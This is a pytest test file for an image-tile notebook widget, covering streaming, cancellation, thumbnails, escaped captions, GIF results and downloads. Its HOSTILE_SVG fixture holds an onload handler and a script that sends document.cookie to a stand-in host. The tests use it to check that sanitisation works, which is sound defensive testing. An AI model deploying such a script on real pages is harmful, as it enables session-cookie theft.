"""ImageTile, headless: filled by run() from a client, by show() from an image, failed by fail()."""

from __future__ import annotations

import asyncio
import base64
import gc
import io
import json
import threading
import time
from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx
import pytest
from ipywidgets.widgets.widget import _instances
from PIL import Image

import imagewidgets as iw
from imagewidgets.imaging import Thumbnail, thumbnails
from imagewidgets.results import GeneratedImage, PartialImage
from imagewidgets.ui.panel import ImagePanel
from imagewidgets.ui.tile import ImageTile

from waiting import until


def _png(width: int = 1024, height: int = 1024) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (30, 90, 160)).save(buffer, "PNG")
    return buffer.getvalue()


def _image(prompt: str = "A lighthouse at dusk", **extra: Any) -> GeneratedImage:
    return GeneratedImage(data=_png(1536, 1024), format="png", width=1536, height=1024,
                          params={"model": "gpt-image-1", "prompt": prompt, "quality": "low"},
                          created=int(time.time()), **extra)


@pytest.fixture
def no_gc() -> Iterator[None]:
    """Closing must happen by the tile's own hand, not by the garbage collector."""
    gc.disable()
    try:
        yield
    finally:
        gc.enable()


class _Stream:
    """A client whose stream() records whether it was closed, and when."""

    def __init__(self, *events: Any, then_wait: bool = False) -> None:
        self.events = events
        self.then_wait = then_wait
        self.closed = False
        self.sent: list[tuple[Any, int]] = []
        self.reached_end = False

    async def stream(self, body: Any, *, image_index: int = 0, on_sent: Any = None,
                     variation: int = 0, on_billed: Any = None) -> AsyncIterator[Any]:
        self.sent.append((body, image_index))
        if on_sent is not None:
            on_sent()
        try:
            for event in self.events:
                if isinstance(event, GeneratedImage) and on_billed is not None:
                    on_billed(event.usage, {})  # as the client: billed before it is handed over
                yield event
            if self.then_wait:
                await asyncio.Event().wait()  # never set: until cancelled
            self.reached_end = True
        finally:
            self.closed = True


def test_tile_repr_is_cheap() -> None:
    tile = ImageTile(iw.ImageParams(prompt="x"))
    assert repr(tile) == f"ImageTile(status='queued', model={iw.ImageParams().model!r})"
    tile.close()


def test_placeholder_keeps_the_aspect_asked_for() -> None:
    wide = ImageTile(iw.ImageParams(model="gpt-image-1", size="1536x1024", prompt="x"))
    auto = ImageTile(iw.ImageParams(model="gpt-image-1", size="auto", prompt="x"))
    assert (wide.box_width, wide.box_height) == (384, 256)
    assert (auto.box_width, auto.box_height) == (384, 384)
    wide.close()
    auto.close()


async def test_show_fills_a_tile_from_an_image_at_hand() -> None:
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="A lighthouse at dusk"))
    image = _image(revised_prompt="A <i>tall</i> lighthouse")
    await tile.show(image)
    assert tile.status == "done" and tile.result is image and tile.error is None
    assert tile.status_text == "done"  # never ran: no time to show
    with Image.open(io.BytesIO(tile.thumbnail)) as thumb:
        assert thumb.size == (384, 256)  # a thumbnail, not the image
    assert "gpt-image-1 · 1536x1024 · low" in tile.caption
    assert "&lt;i&gt;tall&lt;/i&gt;" in tile.caption and "<i>tall</i>" not in tile.caption
    content, data = _delivered(tile, "download")
    assert data == image.data and content["action"] == "download"
    assert content["filename"].startswith("a-lighthouse-at-dusk_gpt-image-1_")
    tile.close()


def test_fail_marks_a_tile_failed_before_anything_is_sent() -> None:
    tile = ImageTile(iw.ImageParams(prompt="x"))
    error = iw.ParamsError(["size '<b>7x7</b>' is not available"])
    tile.fail(error)
    assert tile.status == "failed" and tile.error is error and tile.result is None
    assert "iw-status-failed" in tile._dom_classes and "iw-status-queued" not in tile._dom_classes
    assert "ParamsError" in tile.caption
    assert "&lt;b&gt;7x7&lt;/b&gt;" in tile.caption and "<b>7x7</b>" not in tile.caption
    assert not tile.click("download") and not tile.click("enlarge")  # nothing to send
    tile.close()


async def test_run_with_parameters_that_cannot_succeed_sends_nothing() -> None:
    client = _Stream()
    tile = ImageTile(iw.ImageParams(prompt=""))
    await tile.run(client)  # type: ignore[arg-type]
    assert tile.status == "failed" and isinstance(tile.error, iw.ParamsError)
    assert "prompt is empty" in tile.caption
    assert client.sent == []


async def test_run_sends_the_checked_body_as_given() -> None:
    params = iw.ImageParams(model="gpt-image-1", prompt="A lighthouse at dusk")
    body = params.to_request()
    client = _Stream(_image())
    tile = ImageTile(params)
    await tile.run(client, body, image_index=3)  # type: ignore[arg-type]
    assert client.sent == [(body, 3)] and client.sent[0][0] is body
    assert tile.status == "done" and tile.status_text.startswith("done in ")
    tile.close()


async def test_the_final_image_closes_the_stream_at_once(no_gc: None) -> None:
    client = _Stream(_image(), _image(prompt="never read"))
    tile = ImageTile(iw.ImageParams(prompt="x"))
    await tile.run(client)  # type: ignore[arg-type]
    assert tile.status == "done"
    assert client.closed and not client.reached_end  # closed on leaving, not left for the GC
    tile.close()


async def test_a_cancel_closes_the_stream_at_once(no_gc: None) -> None:
    partial = PartialImage(data=_png(64, 64), format="png", width=64, height=64)
    client = _Stream(partial, then_wait=True)
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x", stream=True,
                                    partial_images=1))
    task = asyncio.ensure_future(tile.run(client))  # type: ignore[arg-type]
    await until(lambda: tile.status == "partial", "the first partial shown")
    assert tile.status_text.startswith("partial 1 of 1")
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert tile.status == "cancelled" and client.closed
    tile.close()


async def test_a_done_tile_keeps_its_last_partial_without_its_bytes() -> None:
    # A panel keeps hundreds of tiles: a superseded partial must not double what each holds.
    partial = PartialImage(data=_png(64, 64), format="png", width=64, height=64, partial_index=1)
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x", stream=True,
                                    partial_images=2))
    await tile.run(_Stream(partial, _image()))  # type: ignore[arg-type]
    assert tile.status == "done" and tile.result is not None and tile.result.data
    assert tile.last_partial is not None and tile.last_partial.partial_index == 1
    assert tile.last_partial.data == b""
    tile.close()


async def test_a_cancelled_tile_keeps_its_last_partial_whole() -> None:
    partial = PartialImage(data=_png(64, 64), format="png", width=64, height=64)
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x", stream=True,
                                    partial_images=1))
    task = asyncio.ensure_future(tile.run(_Stream(partial, then_wait=True)))  # type: ignore[arg-type]
    await until(lambda: tile.status == "partial", "the first partial shown")
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert tile.last_partial is partial  # the only picture it has: shown, and kept
    tile.close()


async def test_an_error_closes_the_stream_and_is_shown_escaped(no_gc: None) -> None:
    bad = GeneratedImage(data=b"<not an image>", format="png", width=1, height=1)
    client = _Stream(bad, _image())
    tile = ImageTile(iw.ImageParams(prompt="x"))
    await tile.run(client)  # type: ignore[arg-type]
    assert tile.status == "failed" and tile.error is not None
    assert client.closed and not client.reached_end
    assert tile.caption.startswith('<span class="iw-error"><b>')
    tile.close()


async def test_a_stream_with_no_image_fails_the_tile() -> None:
    tile = ImageTile(iw.ImageParams(prompt="x"))
    await tile.run(_Stream())  # type: ignore[arg-type]
    assert tile.status == "failed" and "the server sent no image" in tile.caption
    tile.close()


async def test_run_against_the_emulator_fills_the_tile(client: iw.ImagesClient) -> None:
    params = iw.ImageParams(model="gpt-image-1", prompt="A <b>bold</b> fox", quality="low",
                            stream=True, partial_images=1)
    tile = ImageTile(params)
    await tile.run(client, params.to_request())
    assert tile.status == "done" and tile.last_partial is not None
    assert tile.result is not None and tile.result.width == 1024
    assert "tokens" in tile.caption
    tile.close()


async def test_decoding_runs_off_the_loop_on_one_thread(
        client: iw.ImagesClient, monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[threading.Thread] = []
    real = thumbnails.thumbnail

    def recording(data: bytes, longest: int = 384) -> Thumbnail:
        threads.append(threading.current_thread())
        return real(data, longest)

    monkeypatch.setattr(thumbnails, "thumbnail", recording)
    # The loop's lag meanwhile is a figure of benchmarks/bench_compare.py (B4), not a test.
    params = iw.ImageParams(prompt="A lighthouse at dusk", model="gpt-image-1", n=4, stream=True,
                            partial_images=3, quality="high", size="1536x1024")
    panel = ImagePanel(client=client, params=params)
    await panel.generate()
    assert threads and threading.main_thread() not in threads
    # One thread for all: Pillow holds the GIL while decoding, and four (or six, in a grid)
    # threads decoding at once starved the loop (B4 in benchmarks/bench_compare.py).
    assert len(set(threads)) == 1, f"thumbnails made on {len(set(threads))} threads"
    assert all(tile.status == "done" for tile in panel.tiles)
    panel.close()


# -- GIF and SVG results ------------------------------------------------------------------------

def _gif(frames: int = 5, size: tuple[int, int] = (512, 512)) -> bytes:
    pictures = [Image.new("RGB", size, (50 * index, 100, 200)) for index in range(frames)]
    buffer = io.BytesIO()
    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=120, loop=0)
    return buffer.getvalue()


HOSTILE_SVG = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
               b'<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024" '
               b'onload="alert(document.domain)">'
               b'<script>fetch("http://example.invalid/steal?c=" + document.cookie)</script>'
               b'<image href="http://example.invalid/x.png" width="64" height="64"/>'
               b'<rect width="1024" height="1024" fill="teal"/></svg>\n')
HOSTILE_WORDS = ("<script", "onload", "example.invalid", "document.cookie", "<svg")


def _result(data: bytes, fmt: str, size: tuple[int, int]) -> GeneratedImage:
    return GeneratedImage(data=data, format=fmt, width=size[0], height=size[1],
                          params={"model": "gpt-image-2.6-sunburst", "prompt": "A spinning top"},
                          created=int(time.time()))


def _delivered(tile: ImageTile, action: str = "download") -> tuple[dict[str, Any], bytes]:
    """What Download or Enlarge sends the browser: one message, the file its only buffer."""
    sent: list[tuple[dict[str, Any], list[bytes]]] = []
    tile.send = lambda content, buffers=None: sent.append((content, buffers))  # type: ignore[method-assign]
    assert tile.click(action)
    (content, buffers), = sent
    (data,) = buffers
    return content, bytes(data)


async def test_a_gif_result_shows_animated_and_downloads_as_gif() -> None:
    gif = _gif()
    tile = ImageTile(iw.ImageParams(prompt="A spinning top"))
    await tile.show(_result(gif, "gif", (512, 512)))
    assert tile.status == "done" and tile.thumbnail_format == "gif"
    with Image.open(io.BytesIO(tile.thumbnail)) as thumb:
        assert thumb.format == "GIF" and thumb.n_frames == 5 and max(thumb.size) == 384
    for action in ("download", "enlarge"):
        content, data = _delivered(tile, action)
        assert data == gif  # exactly the server's bytes, every frame
        assert content["filename"].endswith(".gif") and content["mime"] == "image/gif"
    tile.close()


async def test_a_hostile_svg_is_only_ever_image_bytes_in_the_tile() -> None:
    tile = ImageTile(iw.ImageParams(prompt="A spinning top"))
    await tile.show(_result(HOSTILE_SVG, "svg", (1024, 1024)))
    assert tile.status == "done" and tile.thumbnail_format == "svg+xml"
    # Every piece of state the tile sends to the browser: the SVG is nowhere as markup.
    for name, value in tile.get_state().items():
        text = value if isinstance(value, str) else json.dumps(value, default=str)
        for word in HOSTILE_WORDS[:-1]:
            assert word not in text, (name, word)
        if name != "_esm":
            assert "<svg" not in text and "data:" not in text, name
    # The thumbnail is image bytes of type svg+xml, wrapped: its own bytes are the payload of a
    # data: URL there, drawn by an <img> as an image.
    assert tile.thumbnail.startswith(b"<svg") and base64.b64encode(HOSTILE_SVG) in tile.thumbnail
    for action in ("download", "enlarge"):
        content, data = _delivered(tile, action)
        # The safe copy, as the store saves it: a downloaded file opened later runs nothing.
        assert data.startswith(b"<svg") and b'fill="teal"' in data
        assert not any(word.encode() in data for word in HOSTILE_WORDS[:-1])
        assert content["filename"].endswith(".svg") and content["mime"] == "image/svg+xml"
        assert set(content) == {"event", "filename", "mime", "action"}  # the bytes only as a buffer
    tile.close()


@pytest.mark.parametrize("kind", ["gif", "svg"])
async def test_gif_and_svg_from_a_server_through_the_client_to_download(kind: str) -> None:
    data = _gif(3, (256, 128)) if kind == "gif" else HOSTILE_SVG
    seen: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request.url.path)
        return httpx.Response(200, json={"created": 1_764_000_000, "output_format": kind,
                                         "data": [{"b64_json": base64.b64encode(data).decode()}]})

    params = iw.ImageParams(prompt="A spinning top")  # the default: a live model
    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as http, \
            iw.ImagesClient(api_key="sk-test", base_url="http://api.test/v1", http_client=http,
                            max_retries=0) as client:
        tile = ImageTile(params)
        await tile.run(client, params.to_request())
    assert seen == ["/v1/images/generations"]
    assert tile.status == "done", tile.caption
    assert tile.result is not None and tile.result.format == kind and tile.result.data == data
    assert tile.thumbnail_format == ("gif" if kind == "gif" else "svg+xml")
    assert ("256x128" if kind == "gif" else "1024x1024") in tile.caption
    content, delivered = _delivered(tile)
    assert content["filename"].endswith(f".{kind}")
    assert delivered == data if kind == "gif" else b"<script" not in delivered and b"<rect" in delivered
    tile.close()


async def test_a_partial_then_a_final_of_another_format_switch_the_image_type() -> None:
    partial = PartialImage(data=_png(64, 64), format="png", width=64, height=64)
    client = _Stream(partial, _result(_gif(2, (64, 64)), "gif", (64, 64)))
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x", stream=True, partial_images=1))
    formats: list[str] = []
    tile.observe(lambda change: formats.append(change["new"]), "thumbnail_format")
    await tile.run(client)  # type: ignore[arg-type]
    # An opaque PNG partial's thumbnail is a JPEG, the final a GIF.
    assert tile.status == "done" and formats == ["jpeg", "gif"] and tile.thumbnail_format == "gif"
    tile.close()


async def test_a_tile_is_one_widget_model() -> None:
    # A panel keeps hundreds of tiles: each is one model in the kernel, no layout, no children.
    before = set(_instances)
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x"), on_reuse=lambda _tile: None)
    await tile.run(_Stream(_image()))  # type: ignore[arg-type]
    assert tile.status == "done" and tile.can_reuse and not tile.can_edit
    made = [_instances[key] for key in set(_instances) - before]
    assert sorted(type(widget).__name__ for widget in made
                  if type(widget).__name__ != "SharedCode") == ["ImageTile"]
    tile.note_reuse()
    assert "settings loaded" in tile.reuse_note
    tile.note_reuse(shown=False)
    assert tile.reuse_note == ""
    labelled = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x"), label="a <b>label</b>")
    assert labelled.label == "a <b>label</b>"  # plain text: the browser sets it as text
    tile.close()
    labelled.close()
    assert not set(_instances) - before - {tile._code.split(":")[1]}


async def test_one_model_holds_the_tile_code_for_every_tile() -> None:
    first, second = (ImageTile(iw.ImageParams(prompt="x")) for _ in range(2))
    assert first._code == second._code and first._code.startswith("anywidget:")
    assert len(first._esm) < 1500  # each tile's state carries only the loader
    shared = _instances[first._code.split(":")[1]]
    assert "function render(" in shared.code and ".iw-tile" in shared.css
    first.close()
    second.close()


async def test_actions_are_messages_like_a_click() -> None:
    used: list[ImageTile] = []
    tile = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="x"), on_reuse=used.append)
    assert not tile.click("reuse")  # nothing to reuse before the image
    await tile.show(_image())
    tile._on_message(tile, {"event": "action", "action": "reuse"}, [])  # what the browser sends
    assert used == [tile]
    assert not tile.click("edit")  # room for Edit: no editor yet, no button
    with pytest.raises(ValueError, match="action 'print' is not a tile's; choose one of download"):
        tile.click("print")
    sent: list[tuple[dict[str, Any], Any]] = []
    tile.send = lambda content, buffers=None: sent.append((content, buffers))  # type: ignore[method-assign]
    tile._on_message(tile, {"event": "ready"}, [])  # a view drawn: it gets the picture
    (content, buffers), = sent
    assert content == {"event": "thumbnail", "format": tile.thumbnail_format}
    assert buffers == [tile.thumbnail] and "thumbnail" not in tile.get_state()
    tile.close()
async def test_the_thumbnail_and_the_buttons_name_the_image() -> None:
    params = iw.ImageParams(model="gpt-image-1", prompt="A lighthouse at dusk", quality="low")
    tile = ImageTile(params, on_reuse=lambda _tile: None)
    assert tile.alt == tile.alt_text == "A lighthouse at dusk — gpt-image-1 — queued"
    assert tile.subject == "image: A lighthouse at dusk (gpt-image-1)"  # "Download " + it, ...
    await tile.run(_Stream(_image()), image_index=2)  # type: ignore[arg-type]
    assert tile.status == "done"
    assert tile.alt == "A lighthouse at dusk — gpt-image-1 — done"
    assert tile.subject == "image 3: A lighthouse at dusk (gpt-image-1)"
    tile.fail(RuntimeError("boom"))
    assert tile.alt.endswith("— failed")
    long = ImageTile(iw.ImageParams(model="gpt-image-1", prompt="word " * 40))
    assert len(long.subject) < 110 and long.subject.endswith("… (gpt-image-1)")
    assert long.alt.startswith("word " * 40)  # the alt keeps the whole prompt
    compared = ImageTile(params, description="quality: high")  # what a grid compares here
    assert compared.alt == "A lighthouse at dusk — gpt-image-1 — quality: high — queued"
    for each in (tile, long, compared):
        each.close()
